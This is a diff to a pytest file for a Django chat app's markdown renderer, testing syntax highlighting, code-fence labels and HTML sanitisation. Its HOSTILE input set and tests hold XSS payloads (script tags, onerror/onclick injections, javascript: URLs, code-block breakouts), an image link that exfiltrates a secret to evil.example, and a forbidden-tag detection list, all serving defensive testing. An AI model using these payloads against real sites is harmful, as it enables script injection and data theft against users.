@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import importlib.util
 import re
 from datetime import timedelta
+from html import unescape
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 from django.utils import timezone
 
 from chatstream.models import Generation
-from chatstream.rendering import render_markdown
+from chatstream.rendering import HIGHLIGHT_LIMIT, TOKEN_CLASSES, render_markdown
 from chatstream.templatetags.chatstream import (
     chatstream_ago,
     chatstream_markdown,
@@ -41,6 +44,12 @@ HOSTILE = {
     "image-data-url": "![x](data:image/png;base64,iVBORw0KGgo=)",
     "reference-image-exfiltration": "![x][i]\n\n[i]: https://evil.example/collect?q=SECRET",
     "html-comment": "<!-- <script>alert(1)</script> -->",
+    "fence-info-html": "```<script>alert(1)</script>\nx\n```",
+    "fence-info-quotes": '```python" onclick="alert(1)\nx = 1\n```',
+    "fence-info-js-url": "```javascript:alert(1)\nx\n```",
+    "fence-info-entities": "```&lt;img&#32;src=x&#32;onerror=alert(1)&gt;\nx\n```",
+    "fence-code-breakout": "```python\n</code></pre><script>alert(1)</script>\n```",
+    "fence-code-breakout-unknown": "```nosuchlang\n</code></pre><img src=x onerror=alert(1)>\n```",
 }
 
 
@@ -49,13 +58,14 @@ class _Audit(HTMLParser):
 
     FORBIDDEN = {"script", "iframe", "svg", "object", "embed", "style", "form", "div", "img",
                  "input", "button", "link", "meta", "base", "math"}
+    OURS = {("div", "cs-code")}  # rendering.py's own wrapper of a code block
 
     def __init__(self) -> None:
         super().__init__()
         self.problems: list[str] = []
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if tag in self.FORBIDDEN:
+        if tag in self.FORBIDDEN and (tag, dict(attrs).get("class")) not in self.OURS:
             self.problems.append(f"<{tag}>")
         for name, value in attrs:
             if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
@@ -90,10 +100,11 @@ def test_common_markdown_renders_code_lists_tables_and_links():
         "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n[docs](https://example.org/x?a=1&b=2) ~~old~~ `x`"
     )
     assert "<ol>" in html and "<li>one</li>" in html and "<ul>" in html
-    assert '<pre><code class="language-python">print(\'hi\')\n</code></pre>' in html.replace(
-        "&#x27;", "'").replace("&#39;", "'")
-    assert '<th style="text-align:left">a</th>' in html
-    assert '<td style="text-align:right">2</td>' in html
+    assert '<pre><code class="language-python"><span class="nb">print</span>' in html
+    # Alignment as a class: a style attribute would break a strict Content-Security-Policy.
+    assert '<th class="cs-align-left">a</th>' in html
+    assert '<td class="cs-align-right">2</td>' in html
+    assert "style=" not in html
     assert '<a href="https://example.org/x?a=1&amp;b=2"' in html
     assert 'rel="nofollow noopener noreferrer"' in html and 'target="_blank"' in html
     assert "<s>old</s>" in html and "<code>x</code>" in html
@@ -139,7 +150,8 @@ def test_image_outside_the_allow_list_never_loads(settings, src):
 
 def test_code_language_class_is_kept_only_when_plain():
     assert 'class="language-c++"' in render_markdown("```c++\nint x;\n```")
-    assert "class=" not in render_markdown('```a"b\nx\n```')
+    html = render_markdown('```a"b\nx\n```')
+    assert "language-" not in html and "cs-code-lang" not in html
 
 
 def test_markdown_filter_accepts_none():
@@ -256,3 +268,109 @@ def test_script_links_stay_refused_whatever_the_link_allow_list(settings, hosts,
     settings.CHATSTREAM_ALLOWED_LINK_HOSTS = hosts
     html = render_markdown(source)
     assert _danger(html) == [] and _links(html) == []
+
+
+# --- code blocks ------------------------------------------------------------------------------
+
+PYTHON = 'def greet(name):\n    """Say hello."""\n    return f"Hello, {name}!"  # polite\n'
+
+
+def _text(html: str) -> str:
+    """What a browser shows of ``html``: its text, entities decoded."""
+    return unescape(re.sub(r"<[^>]+>", "", html))
+
+
+def _classes(html: str) -> set[str]:
+    return {name for value in re.findall(r'class="([^"]*)"', html) for name in value.split()}
+
+
+def test_python_fence_is_highlighted_with_pygments_token_classes():
+    html = render_markdown(f"```python\n{PYTHON}```")
+    assert '<span class="k">def</span>' in html
+    assert '<span class="nf">greet</span>' in html
+    assert '<span class="c1"># polite</span>' in html
+    assert {"k", "nf", "sd", "sa", "s2", "si", "c1"} <= _classes(html)
+    assert _classes(html) <= TOKEN_CLASSES | {"cs-code", "cs-code-lang", "language-python"}
+    assert "style=" not in html
+
+
+@pytest.mark.parametrize("source", [
+    f"```python\n{PYTHON}```",
+    "```python\n\n\n  indented first line\n\ttab\n\n```",
+    "```js\nconst a = '<b>' && \"&amp;\";\n```",
+    "```nosuchlang\n<b> & </b>\n```",
+    f"```\n{PYTHON}```",
+    "    four spaces make a code block\n      <i>kept</i>\n",
+], ids=["python", "blank-lines-and-tabs", "html-in-strings", "unknown", "no-language",
+        "indented"])
+def test_code_text_is_kept_exactly(source):
+    lines = source.splitlines(keepends=True)
+    code = "".join(lines[1:-1]) if source.startswith("```") else "".join(
+        line[4:] for line in lines)
+    html = render_markdown(source)
+    shown = re.search(r"<pre><code[^>]*>(.*)</code></pre>", html, re.S)
+    assert shown and _text(shown[1]) == code
+
+
+def test_fence_naming_a_language_gets_its_label_as_text():
+    html = render_markdown(f"```Python extra words\n{PYTHON}```")
+    assert '<span class="cs-code-lang">Python</span><pre><code class="language-Python">' in html
+    assert '<span class="k">def</span>' in html  # names are matched in any case
+
+
+def test_unknown_language_is_labelled_but_not_highlighted():
+    html = render_markdown("```nosuchlang\nif x: pass\n```")
+    assert '<span class="cs-code-lang">nosuchlang</span>' in html
+    assert '<code class="language-nosuchlang">if x: pass\n</code>' in html
+
+
+@pytest.mark.parametrize("source", [f"```\n{PYTHON}```", "    def f(): pass\n"],
+                         ids=["fence", "indented"])
+def test_code_without_a_language_is_never_guessed(source):
+    html = render_markdown(source)
+    assert html.startswith('<div class="cs-code"><pre><code>')
+    assert "cs-code-lang" not in html and "<span" not in html
+
+
+@pytest.mark.parametrize(("info", "label"), [
+    ('python" onclick="alert(1)', None),
+    ("<script>alert(1)</script>", None),
+    ("javascript:alert(1)", None),
+    ("&lt;b&gt;", None),
+    ("x" * 41, None),
+    ("c++", "c++"),
+    ("c#", "c#"),
+    ("objective-c", "objective-c"),
+], ids=["quotes", "html", "js-url", "entities", "too-long", "c++", "c#", "dash"])
+def test_label_shows_only_a_plain_language_name(info, label):
+    html = render_markdown(f"```{info}\nx\n```")
+    assert _danger(html) == []
+    if label is None:
+        assert "cs-code-lang" not in html and "language-" not in html
+    else:
+        assert f'<span class="cs-code-lang">{label}</span>' in html
+
+
+def test_fenced_markup_stays_text_inside_the_code_block():
+    html = render_markdown("```python\n</code></pre><script>alert(1)</script>\n```\n\nafter")
+    assert _danger(html) == []
+    assert html.count("</pre>") == 1 and html.endswith("</pre></div>\n<p>after</p>\n")
+    assert _text(html).startswith("python</code></pre><script>alert(1)</script>\n")
+
+
+def test_very_long_code_is_shown_without_highlighting():
+    code = "x = 1\n" * (HIGHLIGHT_LIMIT // 6 + 1)
+    html = render_markdown(f"```python\n{code}```")
+    assert "<span class=\"n\">" not in html and code in _text(html)
+    assert '<span class="n">x</span>' in render_markdown("```python\nx = 1\n```")
+
+
+def test_token_colours_in_the_stylesheet_are_the_scripts_output():
+    path = Path(__file__).resolve().parents[1] / "scripts" / "pygments_css.py"
+    spec = importlib.util.spec_from_file_location("pygments_css", path)
+    assert spec and spec.loader
+    script = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(script)
+    css = script.CSS.read_text(encoding="utf-8")
+    assert script.written(css) == script.generate(), "run scripts/pygments_css.py"
+    assert ".cs-code .k { color: #a90d91 }" in css  # xcode's keywords, in the light scheme
